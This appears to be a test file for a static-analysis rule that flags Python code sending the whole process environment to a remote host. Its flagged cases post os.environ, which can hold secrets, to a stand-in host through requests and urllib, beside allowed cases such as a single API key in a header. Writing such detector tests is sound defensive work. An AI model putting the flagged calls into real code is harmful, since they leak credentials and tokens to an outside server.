import json
import os
import subprocess
import urllib.request

import requests

# ruleid: python.env.sent
requests.post("https://a.example", json=dict(os.environ))
values = os.environ.copy()
text = json.dumps(values)
# ruleid: python.env.sent
requests.post("https://a.example", data=text)
# ruleid: python.env.sent
urllib.request.urlopen("https://a.example", data=json.dumps({**os.environ}).encode())
# ruleid: python.env.sent
session.post("https://a.example", data=str(os.environ))
# ok: python.env.sent
requests.post("https://a.example", headers={"Authorization": os.environ["API_KEY"]})
# ok: python.env.sent
requests.get(os.environ.get("API_URL"))
# ok: python.env.sent
subprocess.run(["make"], env=os.environ)
# ok: python.env.sent
subprocess.run(["make"], env={**os.environ, "A": "b"})
